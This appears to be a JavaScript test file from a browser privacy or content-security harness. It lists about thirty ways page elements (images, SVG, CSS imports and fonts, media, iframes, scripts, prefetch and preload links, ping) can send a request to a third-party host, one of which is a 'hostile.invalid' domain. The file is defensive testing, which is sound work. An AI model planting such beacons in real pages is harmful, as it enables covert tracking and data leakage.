// Requests to the third host by elements of a document.

const style = (text) => element("style", {}, text);
const link = (rel, more) => element("link", { rel, href: hit(`link-${rel}`), ...more });

attacks["img"] = () => {
  attempt("element", () => element("img", { src: hit("img.png") }));
  attempt("object", () => (new Image().src = hit("img-object.png")));
  attempt("set", () => element("img", { srcset: `${hit("img-set.png")} 1x` }));
  attempt("input", () => element("input", { type: "image", src: hit("img-input.png") }));
};

attacks["svg"] = () => {
  const markup = `<image href="${hit("svg-image.png")}"/><use href="${hit("svg-use.svg")}#a"/>`;
  element("div", {}).innerHTML = `<svg xmlns="http://www.w3.org/2000/svg">${markup}</svg>`;
};

attacks["css"] = () => {
  attempt("link", () => link("stylesheet", { href: hit("css-link.css") }));
  attempt("import", () => style(`@import "${hit("css-import.css")}";`));
  attempt("background", () => style(`html { background: url("${hit("css-background.png")}"); }`));
  attempt("attribute", () => element("p", { style: `background: url("${hit("css-attribute.png")}")` }, "x"));
  attempt("face", () => {
    style(`@font-face { font-family: hostile; src: url("${hit("css-font.woff2")}"); }`);
    element("p", {}, "x").style.fontFamily = "hostile";
  });
};

attacks["media"] = () => {
  const loud = { preload: "auto", muted: true };
  attempt("poster", () => element("video", { poster: hit("media-poster.png") }));
  attempt("video", () => element("video", { ...loud, src: hit("media-video.mp4") }).play());
  attempt("audio", () => element("audio", { ...loud, src: hit("media-audio.mp3") }).play());
  attempt("source", () => (new Audio().src = hit("media-source.wav")));
};

attacks["object"] = () => {
  attempt("object", () => element("object", { data: hit("object.html") }));
  attempt("embed", () => element("embed", { src: hit("embed.html") }));
};

attacks["frame"] = () => {
  attempt("foreign", () => element("iframe", { src: hit("frame.html") }));
  attempt("text", () => element("iframe", { srcdoc: `<img src="${hit("frame-text.png")}">` }));
  attempt("script", () => element("iframe", { src: `javascript:fetch("${hit("frame-script")}")` }));
  attempt("data", () => element("iframe", { src: `data:text/html,<img src="${hit("frame-data.png")}">` }));
};

attacks["script"] = () => {
  attempt("classic", () => element("script", { src: hit("script.js") }));
  attempt("module", () => element("script", { src: hit("script-module.js"), type: "module" }));
  attempt("inline", () => element("script", {}, `fetch("${hit("script-inline")}", { mode: "no-cors" })`));
};

attacks["prefetch"] = () => {
  attempt("link", () => link("prefetch"));
  attempt("rules", () => {
    const rules = { prefetch: [{ source: "list", urls: [hit("prefetch-rules.html")], eagerness: "immediate" }] };
    element("script", { type: "speculationrules" }, JSON.stringify(rules));
  });
};

attacks["preload"] = () => {
  attempt("script", () => link("preload", { as: "script" }));
  attempt("fetch", () => link("preload", { as: "fetch", href: hit("link-preload-fetch"), crossorigin: "" }));
  attempt("module", () => link("modulepreload"));
};

attacks["preconnect"] = () => {
  attempt("plain", () => link("preconnect", { href: third }));
  attempt("cors", () => link("preconnect", { href: third, crossorigin: "" }));
};

attacks["dns-prefetch"] = () => link("dns-prefetch", { href: `//${tag || "tag"}.hostile.invalid/` });

attacks["icon"] = () => attempt("icon", () => document.head.append(link("icon")));

attacks["ping"] = () => element("a", { href: "#ping", ping: hit("ping") }, "go").click();
